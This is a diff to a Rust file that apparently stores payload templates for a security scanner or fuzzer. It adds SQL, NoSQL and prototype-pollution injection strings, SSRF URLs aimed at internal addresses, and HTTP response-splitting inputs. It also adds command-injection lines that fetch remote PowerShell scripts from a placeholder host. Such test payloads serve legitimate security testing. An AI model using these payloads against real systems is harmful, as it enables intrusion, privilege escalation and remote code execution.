@@ -37,6 +37,7 @@ pub(crate) fn templates(class: Class) -> &'static [&'static str] {
         Class::Ldap => LDAP,
         Class::Lookup => LOOKUP,
         Class::NoSql => NOSQL,
+        Class::Prototype => PROTOTYPE,
         Class::Splitting => SPLITTING,
         Class::Sql => SQL,
         Class::Ssrf => SSRF,
@@ -113,6 +114,10 @@ const SQL: &[&str] = &[
     "dbms_xmlgen.getxml('select user from dual')",
     "set global general_log_file = '/var/www/html/{w}.php';",
     "set global {w} = 'x';",
+    "{w}' OR '{\"b\":{n}}'::jsonb <@ '{\"a\":1,\"b\":{n}}'::jsonb -- ",
+    "{n} OR '[1,2,3]'::json ->> 2='3'",
+    "{w}' or sqlite_compileoption_used (id)--",
+    "{w}' and not is_member(name)-- x",
 ];
 
 const NOSQL: &[&str] = &[
@@ -138,6 +143,29 @@ const NOSQL: &[&str] = &[
     "[$regex][]",
     "'}, {$set: {role: '{w}'}}, {multi: true}); //",
     "\"}, {\"$inc\": {\"{w}\": {n}}}",
+    "{n}'||this'",
+    "{w}' && !this.{w}//",
+    "{w}'; return this.a != 'b'; var c='",
+    "{n}; return db.{t}.find(); var a=1",
+    "}, { password : /.*/ }",
+    "'}], { {w} : /^a/ }",
+    "{\"$lookup\": {\"from\": \"{t}\"}}",
+    "{\"{w}\": {\"$all\": [{n}]}}",
+];
+
+const PROTOTYPE: &[&str] = &[
+    "{\"__proto__\": {\"{w}\": true}}",
+    "{\"{w}\": {\"__proto__\": {\"role\": \"admin\"}}}",
+    "{\"constructor\": {\"prototype\": {\"{w}\": {n}}}}",
+    "{\"a\": [{\"constructor\": {\"prototype\": {\"{w}\": 1}}}]}",
+    "__proto__.{w}",
+    "/__proto__/{w}",
+    "constructor.prototype.{w}",
+    "{w}.constructor.prototype.{w}",
+    "{w}[__proto__][{n}]",
+    "{w}[constructor][prototype]",
+    "class.module.classLoader.{w}",
+    "__class__.__init__.__globals__.{w}",
 ];
 
 const COMMAND: &[&str] = &[
@@ -189,6 +217,10 @@ const COMMAND: &[&str] = &[
     "{w};sudo cat {w}",
     "=cmd|' /C {w}'!A0",
     "@SUM(1+1)*cmd|' /C calc'!A{n}",
+    "_$$ND_FUNC$$_function (){return 1}()",
+    "require('fs').readFileSync('/{w}').toString()",
+    "{w};iwr http://{h}/{w}.ps1",
+    "Invoke-WebRequest http://{h}/a",
 ];
 
 const TRAVERSAL: &[&str] = &[
@@ -241,6 +273,8 @@ const LDAP: &[&str] = &[
     "x)(|(cn=*",
     "*)(mail=*)",
     "{w})(|(objectclass=*)",
+    "*)!(sn=*",
+    "{w})|(mail=*",
 ];
 
 const XPATH: &[&str] = &[
@@ -293,6 +327,14 @@ const SSRF: &[&str] = &[
     "https://{w}.oast.pro:{n}/a",
     "http://[::ffff:216.58.214.206]/",
     "http://[::ffff:d83a:d6ce]/{w}",
+    "http:127.0.0.1/{w}",
+    "https:/localhost/{w}",
+    "http://192.0.0.192/latest/",
+    "http://100.64.{d}.1/{w}",
+    "http://[64:ff9b::7f00:1]/{w}",
+    "http://[2002:a00:{d}::]/",
+    "http://db.{w}.svc.cluster.local:{n}/",
+    "http://{w}.prod.internal/",
 ];
 
 const XXE: &[&str] = &[
@@ -336,4 +378,6 @@ const SPLITTING: &[&str] = &[
     "{w}\u{560D}\u{560A}Set-Cookie: a={n}",
     "{w}\r\nHeader-Test: {n}",
     "{w}%0d%0aX-Test-{w}: {n}",
+    "{w}%0d%0aReferer: {n}",
+    "http://shop.example/{w}\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK\r\n",
 ];
